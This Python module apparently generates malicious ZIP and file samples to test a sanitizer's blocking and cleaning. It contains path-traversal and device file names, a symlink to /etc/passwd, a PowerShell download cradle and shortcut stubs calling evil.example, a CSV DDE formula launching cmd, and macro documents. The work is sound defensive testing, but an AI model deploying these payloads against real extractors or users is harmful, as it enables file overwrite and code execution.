"""ZIP archives: names that escape, entries that lie, what may not come in."""
import struct

from . import excel, pictures, word
from .attack_pictures import JPEGS
from .attack_word import VBA
from .package import MICROSOFT, Entry, container, deflated
from .sample import BLOCKED, EITHER, Sample, slug

# names that may not reach a disk as they are; {m} is the marker
NAMES = {
	'dotdot': '../../{m}.txt', 'dotdot-inside': 'a/../../{m}.txt', 'absolute': '/etc/{m}.txt', 'drive': 'C:\\Windows\\{m}.txt', 'drive-relative': 'C:{m}.txt', 'backslash': '..\\..\\{m}.txt', 'unc': '\\\\evil.example\\s\\{m}.txt',
	'device': 'CON', 'device-extension': 'aux.txt', 'device-number': 'COM1.txt', 'device-wide': 'ＣＯＮ.txt', 'device-superscript': 'COM¹.txt', 'stream': '{m}.txt:evil.exe', 'stream-default': '{m}.txt::$DATA', 'trailing-dot': '{m}.txt.', 'trailing-blank': '{m}.txt ',
	'bidi': '{m}\u202etxt.exe.txt', 'zero-width': '{m}\u200b.txt', 'control': '{m}\x07.txt', 'newline': '{m}\n.txt', 'escape': '{m}\x1b[2J.txt', 'quote': '{m}".txt', 'pipe': '{m}|x.txt', 'star': '{m}*.txt', 'dot': './././{m}.txt',
	'double-slash': 'a//{m}.txt', 'empty-part': '//{m}.txt', 'tilde': '~/{m}.txt', 'long-blanks': '{m}.pdf' + ' ' * 150 + '.txt', 'long': 'a' * 300 + '{m}.txt', 'deep': 'a/' * 300 + '{m}.txt', 'dash': '-rf {m}.txt', 'dot-only': '...', 'nbsp': '{m}\u00a0.txt',
	'homoglyph-slash': '..\u2215..\u2215{m}.txt', 'wide-slash': '..／..／{m}.txt', 'percent': '%2e%2e%2f{m}.txt',
}
ALLOWED = {'quote', 'pipe', 'star', 'dot', 'tilde', 'dash', 'dot-only', 'nbsp', 'homoglyph-slash', 'wide-slash', 'percent', 'device-wide', 'long-blanks', 'device-superscript', 'long', 'deep', 'double-slash', 'empty-part'}

# raw names in CP932 without the UTF-8 flag; the second byte of some is a backslash
CP932 = {'table': '表.txt', 'so': 'ソ.txt', 'noh': '能.txt', 'folder': '予算/十表.txt', 'half-width': 'ﾃｽﾄ.txt'}

# what may not come in: name -> head of the file
STRANGERS = {
	'exe': b'MZ\x90\0\x03\0\0\0', 'elf': b'\x7fELF\x02\x01\x01', 'macho': b'\xcf\xfa\xed\xfe\x07\0\0\x01', 'class': b'\xca\xfe\xba\xbe\0\0\0\x34', 'js': b'var x = new ActiveXObject("WScript.Shell"); x.Run("', 'vbs': b'Set x = CreateObject("WScript.Shell")\r\nx.Run "',
	'bat': b'@echo off\r\nstart cmd /c ', 'ps1': b'Invoke-Expression (New-Object Net.WebClient).DownloadString("http://evil.example/', 'sh': b'#!/bin/sh\n', 'hta': b'<html><hta:application><script>', 'html': b'<!DOCTYPE html><html><script>', 'svg': b'<svg xmlns="http://www.w3.org/2000/svg" onload="',
	'lnk': b'L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F', 'url': b'[InternetShortcut]\r\nURL=file://evil.example/', 'iqy': b'WEB\r\n1\r\nhttp://evil.example/', 'slk': b'ID;P\r\nO;E\r\nC;Y1;X1;K0;EEXEC("', 'pdf': b'%PDF-1.7\n', 'rtf': b'{\\rtf1\\ansi ', 'doc': b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', '7z': b'7z\xbc\xaf\x27\x1c\0\x04',
	'rar': b'Rar!\x1a\x07\x01\0', 'cab': b'MSCF\0\0\0\0', 'lzh': b'\x20\x20-lh5-', 'gz': b'\x1f\x8b\x08\0', 'iso': b'\0' * 0x8000 + b'\x01CD001\x01\0', 'ttf': b'\0\x01\0\0\0\x0a\0\x80', 'mp4': b'\0\0\0\x18ftypmp42', 'xml': b'<?xml version="1.0"?><x>', 'emf': b'\x01\0\0\0\x6c\0\0\0' + b'\0' * 32 + b' EMF', 'bmp': b'BM\0\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0',
	'tiff': b'II*\0\x08\0\0\0', 'ps': b'%!PS-Adobe-3.0\n', 'wasm': b'\0asm\x01\0\0\0', 'dex': b'dex\n035\0', 'reg': b'Windows Registry Editor Version 5.00\r\n', 'psd': b'8BPS\0\x01', 'eml': b'From: a@example.jp\r\nTo: b@example.jp\r\nSubject: x\r\nMIME-Version: 1.0\r\n\r\n',
}


def text(keep):
	return Entry('読んでください.txt', ('お読みください ' + keep + '\r\n').encode('utf-8'))


def archive(entries, **lies):
	return lambda mark, keep: container([text(keep)] + entries(mark), **{k: v(mark) if callable(v) else v for k, v in lies.items()})


def plain(mark):
	return [Entry('b.txt', b'plain text without it')]


def macro_document(mark):
	p = word.package('文書', 'docm')
	p.add('word/vbaProject.bin', VBA + mark.encode('ascii'), 'application/vnd.ms-office.vbaProject')
	p.relate(p.main, MICROSOFT + '2006/relationships/vbaProject', 'vbaProject.bin')
	return p.bytes()


def nested(data, depth):
	for n in range(depth):
		data = container([Entry('level%d.zip' % n, data)])
	return data


def one(name, data=None, **lies):
	return lambda mark: [Entry(name.replace('{m}', mark) if isinstance(name, str) else name, b'plain ' + mark.encode('ascii') if data is None else data(mark), **lies)]


ATTACKS = {
	'symlink': (archive(one('link', lambda m: b'/etc/passwd ' + m.encode(), made_by=0x031e, attributes=0o120777 << 16)), EITHER), 'device-node': (archive(one('dev', made_by=0x031e, attributes=0o060666 << 16)), EITHER),
	'fifo': (archive(one('fifo', made_by=0x031e, attributes=0o010666 << 16)), EITHER), 'setuid': (archive(one('s.txt', lambda m: b'plain text', made_by=0x031e, attributes=0o104777 << 16)), ('sanitized', 'clean')),
	'duplicate': (archive(lambda m: [Entry('a.txt', b'first text'), Entry('a.txt', b'second ' + m.encode())]), EITHER), 'duplicate-case': (archive(lambda m: [Entry('a.txt', b'first text'), Entry('A.TXT', b'second ' + m.encode())]), EITHER),
	'duplicate-width': (archive(lambda m: [Entry('a.txt', b'first text'), Entry('ａ.txt', b'second ' + m.encode())]), ('sanitized', 'clean')), 'duplicate-nfd': (archive(lambda m: [Entry('が.txt', b'first text'), Entry('か\u3099.txt', b'second ' + m.encode())]), ('sanitized', 'clean')),
	'folder-and-file': (archive(lambda m: [Entry('x', b'a file'), Entry('x/y.txt', b'below ' + m.encode())]), EITHER),
	'comment': (archive(plain, comment=lambda m: m.encode()), ('sanitized', 'clean')), 'before': (archive(plain, before=lambda m: b'MZ ' + m.encode()), EITHER), 'after': (archive(plain, after=lambda m: m.encode()), EITHER),
	'between': (archive(plain, between=lambda m: m.encode()), EITHER), 'self-extracting': (archive(plain, before=lambda m: b'MZ\x90\0' + b'\0' * 100 + b'PE\0\0' + m.encode()), EITHER),
	'hidden': (archive(lambda m: [Entry('hidden.exe', b'MZ' + m.encode(), no_directory=True)]), EITHER), 'local-name': (archive(lambda m: [Entry('a.txt', b'plain text', local_name=b'evil-' + m.encode())]), EITHER),
	'local-method': (archive(lambda m: [Entry('a.txt', b'plain text', local_method=0)]), EITHER), 'unicode-path': (archive(lambda m: [Entry('a.txt', b'plain text', extra=struct.pack('<HHBI', 0x7075, 5 + len(m), 1, 0) + m.encode())]), ('sanitized', 'clean')),
	'extra': (archive(lambda m: [Entry('a.txt', b'plain text', extra=struct.pack('<HH', 0xcafe, len(m)) + m.encode())]), ('sanitized', 'clean')), 'entry-comment': (archive(lambda m: [Entry('a.txt', b'plain text', comment=m.encode())]), ('sanitized', 'clean')),
	'encrypted': (archive(one('secret.txt', flags=1)), EITHER), 'encrypted-aes': (archive(one('secret.txt', flags=1, method_said=99, local_method=99)), EITHER), 'method-lzma': (archive(one('a.lzma', method_said=14, local_method=14)), EITHER),
	'method-zstd': (archive(one('a.zst', method_said=93, local_method=93)), EITHER), 'wrong-crc': (archive(one('a.txt', crc=1)), EITHER), 'stored-size': (archive(one('a.txt', method=0, size=5)), EITHER),
	'macro-document': (archive(one('文書.docm', macro_document)), ('sanitized',)), 'nested-macro': (archive(one('内.zip', lambda m: nested(container([Entry('d.docm', macro_document(m))]), 2))), ('sanitized',)),
	'picture': (archive(one('写真.jpg', lambda m: JPEGS['after-zip'](m.encode()))), ('sanitized',)), 'csv': (archive(one('表.csv', lambda m: "a,b\r\n=cmd|'/c calc'!A0,1\r\n".encode())), ('sanitized',)),
	'double-extension': (archive(one('請求書.pdf.exe', lambda m: b'MZ\x90\0' + m.encode())), ('sanitized',)), 'renamed-exe': (archive(one('読む.txt', lambda m: b'MZ\x90\0' + b'\0' * 60 + m.encode())), ('sanitized', 'blocked')),
	'folder-entry-data': (archive(one('folder/')), EITHER),
}
# no marker that must go: what is in is plain text or the fields of the container
TEXT_STAYS = {'duplicate-case', 'duplicate-width', 'duplicate-nfd', 'folder-and-file', 'wrong-crc', 'stored-size', 'csv', 'setuid', 'local-method', 'folder-entry-data'}
TELLING = {'symlink', 'nested-macro', 'hidden', 'encrypted', 'duplicate'}


def samples():
	for name, path in NAMES.items():
		checks = ('names',)
		yield Sample('archives/name-%s.zip' % name, 'archives/names', lambda mark, keep, path=path: container([text(keep), Entry(path.replace('{m}', mark), b'plain text')]),
			verdicts=('sanitized', 'clean', 'blocked') if name in ALLOWED else ('sanitized', 'blocked'), findings=() if name in ALLOWED else ('entry-name-changed', 'entry-left-out'), gone=(), checks=checks, telling=name in ('dotdot', 'bidi'),
			quiet=name in ALLOWED)
	for name, path in CP932.items():
		yield Sample('harmless/cp932-%s.zip' % name, 'archives/names', lambda mark, keep, path=path: container([text(keep), Entry(path.encode('cp932'), b'plain text')]), verdicts=('clean', 'sanitized'), gone=(), harmless=True,
			checks=('names', 'name:' + path))
	for name, head in STRANGERS.items():
		yield Sample('archives/stranger-%s.zip' % name, 'archives/kinds', archive(one('evil.' + name, lambda m, head=head: head + m.encode('ascii') + b'")\r\n')), verdicts=('sanitized',), findings=('entry-left-out',), telling=name in ('exe', 'lnk'),
			checks=('left-out:evil.' + name,), quiet=name in ('iso',))
		yield Sample('strangers/evil.%s' % name, 'kinds', lambda mark, keep, head=head: head + mark.encode('ascii') + b'")\r\n', verdicts=BLOCKED, findings=('blocked-kind', 'blocked-unknown', 'blocked-damaged', 'blocked-password'), quiet=True)
		yield Sample('strangers/%s-called.docx' % name, 'kinds', lambda mark, keep, head=head: head + mark.encode('ascii') + b'")\r\n', verdicts=BLOCKED, quiet=True)
	for name, (make, verdicts) in ATTACKS.items():
		yield Sample('archives/%s.zip' % slug(name), 'archives/tricks', make, verdicts=verdicts, gone=() if name in TEXT_STAYS else None, checks=('names',), telling=name in TELLING,
			quiet=name in ('setuid', 'duplicate-case', 'duplicate-width', 'duplicate-nfd', 'folder-and-file', 'wrong-crc'))
	yield Sample('archives/only-strangers.zip', 'archives/kinds', lambda mark, keep: container([Entry('evil.exe', b'MZ\x90\0' + mark.encode('ascii'))]), verdicts=BLOCKED, findings=('blocked-inside',))
	yield Sample('archives/empty.zip', 'archives/kinds', lambda mark, keep: container([]), verdicts=('clean', 'sanitized', 'blocked'), keep=(), gone=(), quiet=True)
	yield Sample('harmless/base.zip', 'harmless', lambda mark, keep: container([text(keep), Entry('図/絵.png', pictures.png()), Entry('文書.docx', word.package('x').bytes())]), verdicts=('clean',), harmless=True, gone=())
	yield Sample('harmless/nested.zip', 'harmless', lambda mark, keep: container([text(keep), Entry('内.zip', container([text('x')]))]), verdicts=('clean',), harmless=True, gone=())
